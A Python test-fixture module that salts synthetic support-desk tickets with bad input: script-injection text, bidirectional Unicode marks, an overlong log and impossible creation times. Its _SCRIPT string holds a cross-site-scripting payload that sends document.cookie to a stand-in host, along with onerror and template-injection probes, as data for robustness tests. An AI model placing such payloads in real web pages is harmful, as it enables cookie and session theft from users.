"""The bad input a real support desk holds, a few of each kind.

Three are merely nasty and must come through like any other ticket; three lie about the time,
without which they cannot be placed, and must be refused with the reason.
"""

import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import timedelta

from connectors.sandbox.company.model import Comment, Ticket

__all__ = ["LONG_TEXT", "REFUSED", "afflict"]

LONG_TEXT = 100_000
"""Characters of the long ticket: as much as the schema keeps."""

REFUSED = {
    "future": "it was created ten years from now",
    "no-creation-time": "created_at is null",
    "no-such-day": "created_at is 0000-00-00",
}
"""Oddities that no connector can place, and what is wrong with them."""

_SCRIPT = (
    "<script>fetch('https://collector.example/?c='+document.cookie)</script>"
    '<img src=x onerror="alert(1)"> The invoice page shows this instead of our <b>company '
    'name</b>, which contains an ampersand &amp; quotes: "Miller & Sons" <O\'Neil>. '
    "{{ 7*7 }} ${7*7} is printed as 49, by the way."
)
_MARKS = (
    "Sched\u200bule exp\u200dort shows names back\u202ewards\u202c for our technicians "
    "\u2067\u05d3\u05d5\u05d3 \u05db\u05d4\u05df\u2069 and \u2067\u0623\u062d\u0645\u062f\u2069. "
    "\ufeffThe calendar itself is fine, only the exported file is broken.\u200f"
)
_LOG_LINE = "{:02d}:{:02d}:{:02d} WARN sync  job={} attempt={} upload of photo failed: timeout\n"


@dataclass(frozen=True, slots=True)
class _Oddity:
    name: str
    apply: Callable[[Ticket], Ticket]


def _retell(ticket: Ticket, subject: str, text: str) -> Ticket:
    first: Comment = replace(ticket.comments[0], body=text)
    return replace(
        ticket,
        subject=subject,
        description=text,
        comments=(first, *ticket.comments[1:]),
        language="en",
    )


def _script(ticket: Ticket) -> Ticket:
    return _retell(ticket, 'Company name on invoices shows <script>alert("x")</script>', _SCRIPT)


def _marks(ticket: Ticket) -> Ticket:
    return _retell(ticket, "Calendar export \u202edesrever\u202c for some names", _MARKS)


def _long(ticket: Ticket) -> Ticket:
    head = "Photos do not sync from the mobile app, the whole log since Monday is below.\n\n"
    lines: list[str] = [head]
    size, second = len(head), 0
    while size < LONG_TEXT:
        second += 7
        line = _LOG_LINE.format(
            second // 3_600 % 24, second // 60 % 60, second % 60, 4_000 + second % 91, second % 5
        )
        lines.append(line)
        size += len(line)
    return _retell(ticket, "App log: photos do not sync", "".join(lines)[:LONG_TEXT])


def _future(ticket: Ticket) -> Ticket:
    """Written by an importer whose clock is years ahead; the vendor takes its word for it."""
    ahead = (ticket.created_at + timedelta(days=3_650)).strftime("%Y-%m-%dT%H:%M:%SZ")
    return replace(ticket, overrides={"created_at": ahead, "updated_at": ahead})


def _no_creation_time(ticket: Ticket) -> Ticket:
    return replace(ticket, overrides={"created_at": None})


def _no_such_day(ticket: Ticket) -> Ticket:
    return replace(ticket, overrides={"created_at": "0000-00-00T00:00:00Z"})


_ODDITIES = (
    _Oddity("script", _script),
    _Oddity("marks", _marks),
    _Oddity("long", _long),
    _Oddity("future", _future),
    _Oddity("no-creation-time", _no_creation_time),
    _Oddity("no-such-day", _no_such_day),
)


def afflict(tickets: Sequence[Ticket], rng: random.Random) -> Iterator[Ticket]:
    """The tickets, six of them odd; which ones is the seed's choice.

    The odd ones are ordinary English tickets without a rating and not among the latest, so
    that the first page anybody looks at is not full of them.
    """
    plain = [
        index
        for index, ticket in enumerate(tickets[: -len(tickets) // 6])
        if ticket.rating is None and ticket.language == "en" and len(ticket.comments) == 1
    ]
    spare = [
        index
        for index, ticket in enumerate(tickets[: -len(tickets) // 6])
        if ticket.rating is None and ticket.language == "en" and index not in set(plain)
    ]
    candidates = plain + rng.sample(spare, k=min(len(spare), len(_ODDITIES)))
    chosen = dict(zip(candidates, _ODDITIES, strict=False))
    for index, ticket in enumerate(tickets):
        oddity = chosen.get(index)
        if oddity is None:
            yield ticket
            continue
        # what follows a ticket that is refused would otherwise be served on its own
        alone = replace(ticket, comments=ticket.comments[:1], status="open")
        yield replace(oddity.apply(alone), oddity=oddity.name)
